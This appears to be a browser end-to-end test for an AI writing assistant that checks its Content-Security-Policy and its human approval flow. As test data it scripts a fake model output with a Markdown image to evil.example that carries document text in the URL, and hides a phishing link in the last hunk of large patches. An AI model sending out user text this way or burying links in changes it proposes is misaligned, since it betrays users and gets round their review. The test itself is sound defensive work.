#!/usr/bin/env node
// Browser-mode end-to-end test of what a person approves and what the page may load
// (every hunk of an approved change shown first, the window's Content-Security-Policy,
// images only with the token): `inkstone-cli serve` + the scripted OpenAI-compatible
// TEST server `inkstone-fake-model` (never a model) + Debian's Chromium via
// playwright-core.
//
//   node tests/e2e/browser/approval.mjs --cli target/debug/inkstone-cli \
//        --fake-model target/debug/inkstone-fake-model [--shots DIR] [--ui-dir DIR]
//
// - Every response carries the desktop window's Content-Security-Policy; the page
//   cannot load a remote image; an image the assistant writes in Markdown is shown
//   as its address and nothing is requested from another host; `/media/*` needs the
//   token.
// - A 60-hunk proposal applied by the assistant: the prompt pages through every hunk
//   (count and size shown) and Allow stays disabled until the last page, with the
//   last hunk's link, has been shown; allowing writes exactly those hunks.
// - An 800-hunk proposal (a link in the last one) applied by the assistant: it is not
//   put to the person in a prompt (nothing is asked, nothing written); the person
//   reviews it in the review panel, where the last hunk's link is visible, and
//   accepts it there.
//
// Prints `browser-e2e-approval: N passed, M failed` and exits non-zero on any failure.

import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { ROOT, api, assert, closeBrowser, createSuite, launchChromium, parseArgs, playwrightChromium, startChild, startFakeModel, uiDistOrExit } from "../lib.mjs";

const TOTAL_TIMEOUT_MS = 300_000;
const STEP_TIMEOUT_MS = 30_000;

const args = parseArgs(process.argv.slice(2), {
  script: "approval.mjs",
  usage: "node tests/e2e/browser/approval.mjs --cli <inkstone-cli> --fake-model <inkstone-fake-model> [--shots DIR] [--ui-dir DIR]",
  flags: { "--cli": "cli", "--fake-model": "fakeModel", "--shots": "shots", "--ui-dir": "uiDir" },
  required: ["cli", "fakeModel"],
});
const cliPath = resolve(args.cli);
const fakeModelPath = resolve(args.fakeModel);
if (!existsSync(cliPath)) args.fail(`no such binary: ${cliPath}`);
if (!existsSync(fakeModelPath)) args.fail(`no such binary: ${fakeModelPath}`);
const shots = resolve(args.shots ?? mkdtempSync(join(tmpdir(), "inkstone-browser-approval-shots-")));
mkdirSync(shots, { recursive: true });
const uiDist = uiDistOrExit("approval.mjs", args.uiDir);
const chromium = playwrightChromium();

const suite = createSuite({ script: "approval.mjs", summary: "browser-e2e-approval", timeoutMs: TOTAL_TIMEOUT_MS, shots });
const check = suite.check;
const dataDir = mkdtempSync(join(tmpdir(), "inkstone-browser-approval-data-"));
suite.onCleanup(() => rmSync(dataDir, { recursive: true, force: true }));

const DESKTOP_CSP = JSON.parse(readFileSync(join(ROOT, "tauri.conf.json"), "utf8")).app.security.csp;
const LINK = "https://phish.example/login";
const PARAGRAPHS = 800;
const paragraph = (i) => `第${i}段：早起写作。`;
const SOURCE = Array.from({ length: PARAGRAPHS }, (_, i) => `${paragraph(i + 1)}\n\n`).join("");
/** The source with paragraphs `which` changed; the last one changed gains the link. */
function rewrite(base, which, tag) {
  const lines = base.split("\n\n");
  const last = which.at(-1);
  for (const i of which) lines[i - 1] = i === last ? `第${i}段：早起写作，[${tag}：点这里领取](${LINK})。` : `第${i}段：早起写作，${tag}。`;
  return lines.join("\n\n");
}

async function main() {
  let model;
  const fakeOk = await check("the fake model server starts", async () => {
    model = await startFakeModel(suite, fakeModelPath);
  });
  if (!fakeOk) return;
  const { url: modelUrl, script } = model;
  const toolCall = (id, name, input) => ({ type: "toolCalls", calls: [{ id, name, arguments: JSON.stringify(input) }] });

  let url;
  const serverOk = await check("inkstone-cli serve starts", async () => {
    const env = { ...process.env, RUST_BACKTRACE: "1" };
    delete env.INKSTONE_LLM_API_KEY;
    const serveArgs = ["--data-dir", dataDir, "serve", "--port", "0"];
    if (args.uiDir) serveArgs.push("--ui-dir", uiDist);
    url = await startChild(suite, "inkstone-cli serve", cliPath, serveArgs, env, /^INKSTONE_URL=(\S+)$/);
  });
  if (!serverOk) return;
  const origin = new URL(url).origin;
  const token = new URLSearchParams(new URL(url).hash.slice(1)).get("token");
  const call = (method, params) => api(origin, token, method, params);
  console.log(`# ${origin}; fake model at ${modelUrl}; screenshots in ${shots}`);

  const project = await call("project.create", { title: "八百段", source: SOURCE });
  await call("llmProfile.create", { name: "Fake model", baseUrl: modelUrl, model: "fake-model", contextWindow: 262144 });
  const source = async () => (await call("project.get", { projectId: project.id })).source;

  await check("every response carries the desktop window's Content-Security-Policy; /media needs the token", async () => {
    for (const [what, res] of [
      ["index", await fetch(`${origin}/`)],
      ["a client-side route", await fetch(`${origin}/projects/x`)],
      ["an API call", await fetch(`${origin}/api/project.list`, { method: "POST", headers: { Authorization: `Bearer ${token}` }, body: "{}" })],
    ]) {
      assert(res.status === 200, `${what}: ${res.status}`);
      assert(res.headers.get("content-security-policy") === DESKTOP_CSP, `${what}: ${res.headers.get("content-security-policy")}`);
    }
    const asset = await call("media.addBytes", {
      projectId: project.id,
      fileName: "dot.png",
      dataBase64: "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP4z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==",
    });
    const bare = await fetch(`${origin}/media/${asset.fileName}`);
    assert(bare.status === 401, `/media without the token: ${bare.status}`);
    assert((await bare.json()).code === "PERMISSION_DENIED", "not an ApiError");
    const withToken = await fetch(`${origin}/media/${asset.fileName}`, { headers: { Authorization: `Bearer ${token}` } });
    assert(withToken.status === 200, `/media with the token: ${withToken.status}`);
  });

  const browser = await launchChromium(chromium);
  suite.onCleanup(() => closeBrowser(browser));
  const context = await browser.newContext({ locale: "en-US", colorScheme: "light", viewport: { width: 1440, height: 900 } });
  context.setDefaultTimeout(STEP_TIMEOUT_MS);
  await context.addInitScript(() => window.localStorage.setItem("inkstone.localModelOffer", "dismissed"));
  const page = await context.newPage();
  const pageErrors = [];
  page.on("pageerror", (e) => pageErrors.push(String(e)));
  // Every request the page makes to another host (the fake model is the engine's
  // business, never the page's).
  const foreign = [];
  page.on("request", (r) => {
    const u = r.url();
    // The probe below is the page's own attempt, which the policy must block.
    if (!u.startsWith(origin) && !u.startsWith("data:") && !u.startsWith("blob:") && !u.includes("csp-probe")) foreign.push(u);
  });
  const shot = (name) => page.screenshot({ path: join(shots, `${name}.png`) });
  suite.onFailure = shot;
  const tid = (id) => page.locator(`[data-testid=${id}]`);
  const mod = process.platform === "darwin" ? "Meta" : "Control";
  const waitIdle = () => tid("stop").waitFor({ state: "detached" });
  const send = async (text) => {
    await tid("composer-input").fill(text);
    await page.keyboard.press(`${mod}+Enter`);
  };
  // Whether an approval prompt was ever on the page since the last reset.
  const watchPrompts = () =>
    page.evaluate(() => {
      window.__approvalSeen = false;
      window.__approvalObserver?.disconnect();
      window.__approvalObserver = new MutationObserver(() => {
        if (document.querySelector("[data-testid=approval]")) window.__approvalSeen = true;
      });
      window.__approvalObserver.observe(document.body, { childList: true, subtree: true });
    });

  await page.goto(url, { waitUntil: "commit" });
  await page.locator(`[data-testid=project-item]`).first().locator("button").first().click();
  await tid("project-view").waitFor();
  await page.keyboard.press(`${mod}+j`);
  await tid("composer-input").waitFor();

  await check("the page cannot load a remote image, and an image in the assistant's Markdown is shown as its address", async () => {
    const blocked = await page.evaluate(
      () =>
        new Promise((done) => {
          document.addEventListener("securitypolicyviolation", (e) => done({ uri: e.blockedURI, directive: e.effectiveDirective }), { once: true });
          const img = new Image();
          img.src = "https://evil.example/csp-probe.png";
          document.body.append(img);
          setTimeout(() => done(null), 3000);
        }),
    );
    assert(blocked && blocked.uri.includes("evil.example") && blocked.directive === "img-src", `not blocked by the policy: ${JSON.stringify(blocked)}`);
    await script({ type: "text", content: "参考这张图：![封面](https://evil.example/collect?q=第1段：早起写作)" });
    await send("有配图吗？");
    const message = tid("msg-assistant").filter({ hasText: "参考这张图" });
    await message.waitFor();
    await waitIdle();
    assert((await message.locator("img").count()) === 0, "the assistant's image is rendered as <img>");
    const link = message.locator("[data-testid=md-image] a");
    assert((await link.getAttribute("href")).startsWith("https://evil.example/collect"), "the address is not shown as a link");
    assert(await link.isVisible(), "the address is not visible");
    await shot("approval-01-markdown-image-en-light");
  });

  const SIXTY = [...Array.from({ length: 59 }, (_, i) => i + 1), PARAGRAPHS];
  await check("a 60-hunk change: the prompt pages through every hunk and allows only after the last page, link shown", async () => {
    const proposed = rewrite(SOURCE, SIXTY, "改过");
    await script(toolCall("call_p60", "propose_source_patch", { summary: "改六十段", rewrite: proposed }), { type: "text", content: "六十段改好了。" });
    await send("改六十段");
    await tid("msg-assistant").filter({ hasText: "六十段改好了" }).waitFor();
    await waitIdle();
    const proposal = (await call("proposal.list", { projectId: project.id })).proposals.find((p) => p.summary === "改六十段");
    assert(proposal && proposal.hunks.length === 60, `hunks: ${proposal?.hunks.length}`);
    await script(toolCall("call_a60", "apply_proposal", { proposalId: proposal.id }), { type: "text", content: "已应用六十段。" });
    await send("应用吧");
    const prompt = tid("approval");
    await prompt.waitFor();
    await prompt.getByText("60 changes, exactly these:").waitFor();
    const totals = await prompt.locator("[data-testid=approval-totals]").textContent();
    assert(/^60 changes, \d+ KB of changed text/.test(totals), `totals: ${totals}`);
    assert((await prompt.locator("[data-testid=approval-page]").textContent()) === "Changes 1–20 of 60", "not paged");
    const allow = prompt.locator("[data-testid=allow-once]");
    assert(await allow.isDisabled(), "Allow is enabled before every change was shown");
    assert(!(await prompt.textContent()).includes(LINK), "the link is on the first page?");
    await shot("approval-02-paged-first-en-light");
    await prompt.locator("[data-testid=approval-next]").click();
    assert(await allow.isDisabled(), "Allow is enabled after page 2 of 3");
    await prompt.locator("[data-testid=approval-next]").click();
    assert((await prompt.locator("[data-testid=approval-page]").textContent()) === "Changes 41–60 of 60", "the last page");
    const link = prompt.getByText(LINK, { exact: false }).first();
    await link.scrollIntoViewIfNeeded();
    assert(await link.isVisible(), "the last hunk's link is not visible on the last page");
    await page.waitForFunction(() => !document.querySelector("[data-testid=approval] [data-testid=allow-once]")?.disabled);
    await shot("approval-03-paged-last-en-light");
    await allow.click();
    await tid("msg-assistant").filter({ hasText: "已应用六十段" }).waitFor();
    await waitIdle();
    assert((await source()) === proposed, "the source is not exactly the approved change");
  });

  await check("an 800-hunk change is not put to approval in a prompt; the review panel shows the last hunk's link and applies it", async () => {
    const base = await source();
    const all = Array.from({ length: PARAGRAPHS }, (_, i) => i + 1);
    const proposed = rewrite(base, all, "再改");
    await script(toolCall("call_p800", "propose_source_patch", { summary: "改全部八百段", rewrite: proposed }), { type: "text", content: "八百段改好了。" });
    await send("全部再改一遍");
    await tid("msg-assistant").filter({ hasText: "八百段改好了" }).waitFor();
    await waitIdle();
    const proposal = (await call("proposal.list", { projectId: project.id })).proposals.find((p) => p.summary === "改全部八百段");
    assert(proposal && proposal.hunks.length === PARAGRAPHS, `hunks: ${proposal?.hunks.length}`);
    assert(proposal.hunks.at(-1).newText.includes(LINK), "the last hunk has no link");
    const versions = (await call("version.list", { projectId: project.id })).versions.length;
    await watchPrompts();
    await script(toolCall("call_a800", "apply_proposal", { proposalId: proposal.id }), { type: "text", content: "改动太大，请在审阅面板里逐条查看。" });
    await send("应用吧");
    await tid("msg-assistant").filter({ hasText: "请在审阅面板里逐条查看" }).waitFor();
    await waitIdle();
    assert(!(await page.evaluate(() => window.__approvalSeen)), "a prompt was shown for a change it cannot show whole");
    const sessionId = (await call("session.list", { projectId: project.id })).sessions[0].id;
    const events = (await call("session.events", { sessionId })).events;
    const asked = events.filter((e) => e.kind === "approval_requested" && e.payload.change?.proposalId === proposal.id);
    assert(asked.length === 0, `approval asked ${asked.length} times`);
    const result = events.find((e) => e.kind === "tool_result" && e.toolUseId === "call_a800");
    assert(result && result.payload.status === "tool_error" && result.payload.content.includes("review panel"), `result: ${JSON.stringify(result?.payload)}`);
    assert((await source()) === base, "something was written");
    assert((await call("version.list", { projectId: project.id })).versions.length === versions, "a version was made");
    await shot("approval-04-too-large-en-light");

    // The person reviews it: every hunk is there, the last one's link visible.
    await tid("open-proposal").filter({ hasText: "改全部八百段" }).first().click();
    const review = tid("proposal-review");
    await review.waitFor();
    const lastId = proposal.hunks.at(-1).id;
    const lastBar = review.locator(`[data-hunk="${lastId}"]`);
    // The merge view renders what is in view: scroll to the end until the last bar is.
    for (let i = 0; i < 30 && (await lastBar.count()) === 0; i++) {
      await page.evaluate(() => {
        for (const el of document.querySelectorAll("[data-testid=proposal-review] *"))
          if (el.scrollHeight > el.clientHeight + 4 && getComputedStyle(el).overflowY !== "visible") el.scrollTop = el.scrollHeight;
      });
      await page.waitForTimeout(200);
    }
    await lastBar.waitFor();
    assert((await lastBar.getAttribute("aria-label")).includes("800"), `the last bar: ${await lastBar.getAttribute("aria-label")}`);
    const link = review.getByText(LINK, { exact: false }).last();
    await link.scrollIntoViewIfNeeded();
    assert(await link.isVisible(), "the last hunk's link is not visible in the review");
    await shot("approval-05-review-last-hunk-en-light");
    await review.locator("[data-testid=review-accept-all]").click();
    await review.and(page.locator("[data-status=accepted]")).waitFor();
    assert((await source()) === proposed, "the review's accept did not write the proposal");
  });

  await check("no request left for another host, and no page errors", async () => {
    assert(foreign.length === 0, `requests to other hosts: ${foreign.join(", ")}`);
    assert(pageErrors.length === 0, `page errors: ${pageErrors.join(" | ")}`);
  });
}

suite.run(main);
